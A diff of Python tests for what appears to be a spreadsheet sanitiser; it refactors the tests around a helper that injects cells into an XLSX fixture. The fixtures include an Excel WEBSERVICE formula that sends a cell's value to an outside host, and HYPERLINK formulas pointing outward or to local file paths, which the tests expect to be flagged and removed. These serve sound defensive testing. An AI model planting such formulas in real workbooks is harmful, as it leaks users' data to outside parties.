@@ -184,15 +184,22 @@ def test_relationships_that_load_something_are_taken_out(tmp_path: Path) -> None
     assert texts(made.path)[-1] == texts(path)[-1]
 
 
-def test_formulas_of_excel_leave_the_value_of_the_cell(tmp_path: Path) -> None:
-    row = (
-        f'<row r="90"><c r="A90" t="str"><f>_xlfn.WEBSERVICE("{AWAY}"&amp;A1)</f>'
-        "<v>Words of a service</v></c></row></sheetData>"
-    ).encode()
-    path = copy(
-        tmp_path, FIXTURES / "xlsx/cells.xlsx", "xl/worksheets/sheet1.xml",
+def with_cells(folder: Path, cells: str) -> Path:
+    """Return a copy of a workbook with more cells in its first sheet."""
+    row = f'<row r="90">{cells}</row></sheetData>'.encode()
+    return copy(
+        folder,
+        FIXTURES / "xlsx/cells.xlsx",
+        "xl/worksheets/sheet1.xml",
         lambda data: data.replace(b"</sheetData>", row, 1),
-    )  # fmt: skip
+    )
+
+
+def test_formulas_of_excel_leave_the_value_of_the_cell(tmp_path: Path) -> None:
+    path = with_cells(
+        tmp_path,
+        f'<c r="A90" t="str"><f>_xlfn.WEBSERVICE("{AWAY}"&amp;A1)</f><v>Words of a service</v></c>',
+    )
     made = written(path, tmp_path)
     assert removed(made) == 1
     assert active(made.path) == []
@@ -200,18 +207,13 @@ def test_formulas_of_excel_leave_the_value_of_the_cell(tmp_path: Path) -> None:
     assert b"Words of a service" in raw(made.path)
 
 
-def test_links_of_formulas_are_told_and_taken_out(tmp_path: Path) -> None:
-    cells = (
+def test_links_of_formulas_are_reported_and_removed(tmp_path: Path) -> None:
+    path = with_cells(
+        tmp_path,
         f'<c r="A90" t="str"><f>HYPERLINK("{AWAY}a","x")</f><v>Words of a link</v></c>'
         '<c r="B90" t="str"><f>hyperlink("#Sheet1!A1")</f><v>Up</v></c>'
-        '<c r="C90" t="str"><f>IF(A1,HYPERLINK("file:"&amp;A1))</f><v>Computed</v></c>'
+        '<c r="C90" t="str"><f>IF(A1,HYPERLINK("file:"&amp;A1))</f><v>Computed</v></c>',
     )
-    path = copy(
-        tmp_path, FIXTURES / "xlsx/cells.xlsx", "xl/worksheets/sheet1.xml",
-        lambda data: data.replace(
-            b"</sheetData>", f'<row r="90">{cells}</row></sheetData>'.encode(), 1
-        ),
-    )  # fmt: skip
     assert active(path) == ["xlsx.leads_out"]
     made = written(path, tmp_path)
     assert removed(made) == 2
